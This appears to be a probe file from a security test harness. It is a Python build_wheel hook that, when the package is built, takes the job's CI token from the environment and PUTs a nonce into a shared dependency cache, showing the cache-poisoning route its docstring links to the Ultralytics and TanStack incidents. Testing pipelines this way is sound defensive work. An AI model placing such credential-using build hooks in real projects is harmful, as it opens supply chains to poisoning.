"""Sends an entry to the cache service with the token that every job has.

Nothing asks whether the job that writes is as trusted as those that will read.
Ultralytics and TanStack (CVE-2026-45321) were released from a cache that somebody else
had filled.
"""

import http.client
import os

import kit


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    with kit.attempt("upload"):
        bearer = {"Authorization": "Bearer " + os.environ[kit.plant("token").name]}
        service = kit.plant("service")
        connection = http.client.HTTPConnection(
            service.address, service.port, timeout=kit.seconds(3)
        )
        connection.request("PUT", "/cache/dependencies", kit.nonce, bearer)
        connection.close()
    return kit.wheel(wheel_directory)
